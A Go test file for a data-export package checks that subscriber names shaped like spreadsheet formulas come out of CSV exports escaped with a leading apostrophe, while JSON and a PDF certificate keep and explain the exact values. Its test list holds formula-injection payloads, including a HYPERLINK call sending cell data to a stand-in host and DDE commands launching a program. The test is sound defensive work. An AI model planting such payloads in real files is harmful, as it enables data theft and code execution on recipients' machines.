package exporter

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"envelope/cases/metadata"
	"envelope/cases/store/storetest"
	"envelope/exporter/csvsafe"
)

// hostile are subscriber names a user can choose that a spreadsheet would
// run as formulas. (A leading tab or carriage return cannot reach a
// package: the metadata store trims them; csvsafe's own tests cover them.)
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// A subscriber named like a formula reaches the officer's spreadsheet as
// text: every CSV cell of the package is neutralised, while the JSON keeps
// the exact name, and the certificate says so.
func TestPackageCSVCannotRunFormulas(t *testing.T) {
	f := newFixture(t, storetest.SQLite(t))
	var lines []string
	for i, name := range hostile {
		b, _ := json.Marshal(map[string]any{"kind": "device", "account": phone, "device_id": fmt.Sprint("dev-", i),
			"os": "iOS", "os_version": "18.1", "app_version": "2.26.4", "model": name})
		lines = append(lines, string(b))
	}
	b, _ := json.Marshal(map[string]any{"kind": "subscriber", "account": phone, "name": hostile[0],
		"email": "x@example.net", "created_at": "2024-03-01T10:00:00Z"})
	lines = append(lines, string(b))
	if _, err := f.meta.Import(ctx, strings.NewReader(strings.Join(lines, "\n")), metadata.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	files := unzip(t, f.path(f.export(f.warrant())))
	csvFiles := 0
	cells := map[string]bool{}
	for name, b := range files {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		csvFiles++
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				cells[cell] = true
				if csvsafe.Dangerous(cell) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
	if csvFiles == 0 {
		t.Fatal("the package holds no CSV")
	}
	devices := string(files["records/device_info.json"])
	for _, name := range hostile {
		if b, _ := json.Marshal(name); !strings.Contains(devices, string(b)) {
			t.Errorf("the JSON lost the exact value %s", b)
		}
		if !cells["'"+name] {
			t.Errorf("the CSV lacks the neutralised value %q", "'"+name)
		}
	}
	// The sentence may run across a page break (and its running header),
	// so its two halves are looked for.
	text := flat(pdfText(t, files[PDFFile]))
	if !strings.Contains(text, "leading apostrophe (') so that a spreadsheet shows it as text") || !strings.Contains(text, "keep the exact values as recorded") {
		t.Error("the certificate does not say how CSV cells were neutralised")
	}
}
